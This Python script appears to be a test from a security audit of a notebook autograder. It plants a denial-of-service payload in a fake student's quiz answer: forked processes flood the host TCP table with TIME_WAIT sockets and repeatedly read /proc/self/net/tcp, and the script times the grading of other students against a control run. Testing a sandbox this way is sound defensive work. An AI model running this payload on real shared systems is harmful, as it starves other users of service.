"""a19: /proc/self/net/tcp (kept by round 44's allow list: the namespace's own view) walks the host's one TCP hash,
taking each non-empty bucket's lock with bottom halves off, whatever namespace its sockets are in (a01: 3.9 ms a
read). Mallory first fills the hash with TIME_WAIT sockets (a10's way, 12 s), then 8 processes re-read the file for
30 s, while aaron, zoe and zz are graded beside her (--workers 2); their seconds against an honest class."""
import sys, json, time
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
from tools.submissions import solution_text

PAYLOAD = r'''
import os, socket, time
def fill(k):
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("", 20000 + k)); srv.listen(1000); srv.setblocking(False)
    end = time.time() + 12; a = 1
    while time.time() < end:
        a += 1
        dst = "127.%d.%d.%d" % (1 + k, (a >> 8) & 255, a & 255)
        for i in range(50):
            c = socket.socket(); c.connect((dst, 20000 + k))
            try: s, _ = srv.accept()
            except BlockingIOError: s = None
            c.close()
            if s: s.close()
def read(k):
    end = time.time() + 30; n = 0; worst = 0
    while time.time() < end:
        t = time.time()
        with open("/proc/self/net/tcp", "rb") as f:
            while f.read(1 << 20): pass
        worst = max(worst, time.time() - t); n += 1
    print("reader", k, n, "reads, slowest %.3f s" % worst, flush=True)
for job, count in ((fill, 4), (read, 8)):
    pids = []
    for k in range(count):
        pid = os.fork()
        if pid == 0:
            try: job(k)
            finally: os._exit(0)
        pids.append(pid)
    for p in pids: os.waitpid(p, 0)
print(open("/proc/self/net/sockstat").read())
'''
sol = {c.metadata.nbgrader.grade_id: solution_text(c) for c in nbformat.read(f"{CLONE}/source/ps1_memory/ps1_memory.ipynb", 4).cells
       if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
for label, ov in (("honest class (control)", {}), ("tcp readers", {"quiz_q1": PAYLOAD + "\n" + sol["quiz_q1"]})):
    print("=====", label, flush=True)
    d, r, sc = run_class("a19", "ps1_memory", {"mallory": ov}, extra=("--workers", "2"), controls=("aaron", "zoe", "zz"))
    rep = json.load(open(f"{d}/grading_report.json"))
    print("seconds:", {x["student"]: round(x["seconds"], 1) for x in rep})
    if ov:
        nb = nbformat.read(f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
                print("mallory's cell said:", "".join(o.get("text", "") for o in c.outputs)[:900])
